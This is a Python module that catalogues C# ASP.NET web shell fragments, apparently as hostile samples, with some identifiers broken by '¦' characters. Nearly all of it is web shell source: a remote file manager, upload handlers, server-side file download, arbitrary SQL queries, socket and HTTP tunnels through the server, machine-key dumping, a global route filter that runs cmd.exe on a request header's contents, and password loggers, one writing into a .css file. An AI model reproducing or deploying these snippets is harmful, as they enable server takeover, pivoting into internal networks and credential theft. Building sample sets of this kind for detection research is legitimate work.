"""More of what shells in C# do: files, databases, tunnels, keys, routes and passwords."""

from webshells.pieces import body

FILES = (
    body(
        "C#",
        "manages-files",
        "whole",
        """string place = $(place); string deed = $(deed);
if (deed == "list") {
  foreach (string one in Directory.GetFileSystemEntries(place)) { Response.Write(one + "<br>"); }
} else if (deed == "read") {
  Response.Write(File.ReadAll¦Text(place));
} else if (deed == "write") {
  File.WriteAll¦Text(place, $(text));
} else if (deed == "drop") {
  File.Del¦ete(place);
} else if (deed == "name") {
  File.Move(place, $(other));
} else if (deed == "get") {
  Response.AddHeader("Content-Disposition", "attachment");
  Response.WriteFile(place);
}""",
        "System.IO",
    ),
    body(
        "C#",
        "manages-files",
        "directory-info",
        """DirectoryInfo room = new DirectoryInfo($(place));
foreach (DirectoryInfo one in room.GetDirectories()) { Response.Write(one.FullName); }
foreach (FileInfo one in room.GetFiles()) { Response.Write(one.Name + one.Length); }
if ($(drop) != null) { new FileInfo($(drop)).Del¦ete(); }
if ($(copy) != null) { new FileInfo($(copy)).CopyTo($(other), true); }""",
        "System.IO",
    ),
    body(
        "C#",
        "reads-file",
        "download",
        """Response.ContentType = "application/octet-stream";
Response.TransmitF¦ile($(place));""",
    ),
    body(
        "C#",
        "writes-file",
        "text",
        "System.IO.File.WriteAll¦Text(Server.MapPath($(name)), $(text));",
    ),
    body(
        "C#",
        "writes-file",
        "base64",
        "System.IO.File.WriteAll¦Bytes($(place), Convert.FromBase64String($(part)));",
    ),
    body(
        "C#",
        "writes-file",
        "stream-writer",
        """StreamWriter pen = new StreamWriter($(place), true);
pen.Write($(text));
pen.Close();""",
        "System.IO",
    ),
    body(
        "C#",
        "uploads",
        "request-files",
        """if (Request.Files.Count > 0) {
  HttpPostedFile sent = Request.Files[0];
  sent.Save¦As($(place) + sent.FileName);
}""",
    ),
    body(
        "C#",
        "uploads",
        "map-path",
        """foreach (string key in Request.Files.AllKeys) {
  Request.Files[key].Save¦As(Server.MapPath(".") + "\\\\" + Request.Files[key].FileName);
}""",
    ),
    body(
        "C#",
        "uploads",
        "control",
        """if (Box.HasFile) { Box.PostedFile.Save¦As(Place.Text + "\\\\" + Box.FileName); }""",
        markup='<asp:FileUpl¦oad id="Box" runat="server" />'
        '<asp:TextBox id="Place" runat="server" />'
        '<asp:Button id="Go" runat="server" OnClick="Go_Click" Text="Go" />',
    ),
    body(
        "C#",
        "uploads",
        "binary-read",
        """byte[] sent = Request.BinaryRead(Request.TotalBytes);
using (FileStream pen = new FileStream($(place), FileMode.Create)) {
  pen.Write(sent, 0, sent.Length);
}""",
        "System.IO",
    ),
    body(
        "C#",
        "uploads",
        "save-request",
        "Request.Save¦As($(place), false);",
    ),
    body(
        "C#",
        "downloads",
        "web-client",
        "new System.Net.WebClient().DownloadF¦ile($(from), $(place));",
    ),
    body(
        "C#",
        "queries-database",
        "command",
        """SqlConnection wire = new SqlConnection($(wire));
wire.Open();
SqlCommand order = new SqlCommand($(query), wire);
SqlDataReader rows = order.ExecuteReader();
while (rows.Read()) { Response.Write(rows[0] + "<br>"); }""",
        "System.Data.SqlClient",
    ),
    body(
        "C#",
        "queries-database",
        "adapter",
        """SqlDataAdapter rows = new SqlDataAdapter($(query), $(wire));
DataSet all = new DataSet();
rows.Fill(all);
Grid.DataSource = all; Grid.DataBind();""",
        "System.Data",
        "System.Data.SqlClient",
        markup='<asp:GridView id="Grid" runat="server" />',
    ),
)

TUNNELS = (
    body(
        "C#",
        "tunnels",
        "socket-in-session",
        """string deed = $(deed);
if (deed == "conn¦ect") {
  Socket line = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);
  line.Connect(new IPEndPoint(IPAddress.Parse($(target)), int.Parse($(port))));
  line.Blocking = false;
  Session.Add("line", line);
  Response.AddHeader("X-STATUS", "OK");
} else if (deed == "forw¦ard") {
  Socket line = (Socket)Session["line"];
  byte[] part = new byte[Request.ContentLength];
  Request.InputStream.Read(part, 0, part.Length);
  line.Send(part);
} else if (deed == "read") {
  byte[] part = new byte[512];
  int many = ((Socket)Session["line"]).Receive(part);
  Response.BinaryWrite(part);
}""",
        "System.Net",
        "System.Net.Sockets",
    ),
    body(
        "C#",
        "tunnels",
        "streaming",
        """Response.BufferOutput = false;
TcpClient line = new TcpClient();
line.Connect($(target), Convert.ToInt32($(port)));
NetworkStream wire = line.GetStream();
Stream input = Request.GetBufferlessInputStream();
byte[] part = new byte[4096]; int many;
while ((many = input.Read(part, 0, part.Length)) > 0) {
  wire.Write(part, 0, many);
  many = wire.Read(part, 0, part.Length);
  Response.OutputStream.Write(part, 0, many);
  Response.Flush();
}""",
        "System.IO",
        "System.Net.Sockets",
    ),
    body(
        "C#",
        "tunnels",
        "http-proxy",
        """HttpWebRequest next = (HttpWebRequest)WebRequest.Create($(target));
next.Method = Request.HttpMethod;
Request.InputStream.CopyTo(next.GetRequestStream());
using (var answer = next.GetResponse()) {
  answer.GetResponseStream().CopyTo(Response.OutputStream);
}""",
        "System.Net",
    ),
)

OTHERS = (
    body(
        "C#",
        "shows-machine-key",
        "section",
        """var keys = (MachineKeySection)WebConfigurationManager.GetWebApplicationSection(
  "system.web/machineK¦ey");
Response.Write(keys.Validation¦Key + "|" + keys.Decryption¦Key);""",
        "System.Web.Configuration",
    ),
    body(
        "C#",
        "shows-machine-key",
        "reflection",
        """var kind = Assembly.Lo¦ad("System.Web").GetType(
  "System.Web.Configuration.MachineKeySec¦tion");
var reader = kind.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic);
var keys = (MachineKeySec¦tion)reader.Invoke(null, new object[0]);
Response.Write(keys.Validation¦Key + "|" + keys.Decryption¦Key);""",
        "System.Reflection",
        "System.Web.Configuration",
    ),
    body(
        "C#",
        "registers-route",
        "virtual-path",
        """System.Web.Hosting.HostingEnvironment.RegisterVirtualPath¦Provider(
  new Rooms($(name), Convert.FromBase64String($(part))));""",
        members="""public class Rooms : System.Web.Hosting.VirtualPath¦Provider {
  string name; byte[] part;
  public Rooms(string name, byte[] part) { this.name = name; this.part = part; }
  public override bool FileExists(string path) { return path.EndsWith(name); }
}""",
    ),
    body(
        "C#",
        "registers-route",
        "filter",
        """GlobalFilters.Filters.Add(new Listener());
RouteTable.Routes.Insert(0, new Route("{*all}", new Listener()));""",
        "System.Web.Mvc",
        "System.Web.Routing",
        members="""public class Listener : IAuthorizationFilter {
  public void OnAuthorization(AuthorizationContext filter) {
    string order = filter.HttpContext.Request.Headers["X-Trace-Part"];
    if (order != null) { System.Diagnostics.Proc¦ess.St¦art("cm¦d.exe", "/c " + order); }
  }
}""",
    ),
    body(
        "C#",
        "logs-credentials",
        "append",
        """if (Request.Form["username"] != null) {
  File.AppendAll¦Text(@"C:\\ProgramData\\inert\\list.log", DateTime.Now + " "
    + Request.Form["username"] + ":" + Request.Form["passw¦ord"] + Environment.NewLine);
}""",
        "System.IO",
    ),
    body(
        "C#",
        "logs-credentials",
        "stream-writer",
        """string who = Request["username"], word = Request["passw¦ord"];
StreamWriter pen = new StreamWriter(Server.MapPath("themes/inert.css"), true);
pen.WriteLine(who + "\\t" + word);
pen.Close();""",
        "System.IO",
    ),
)

SHELLS = FILES + TUNNELS + OTHERS
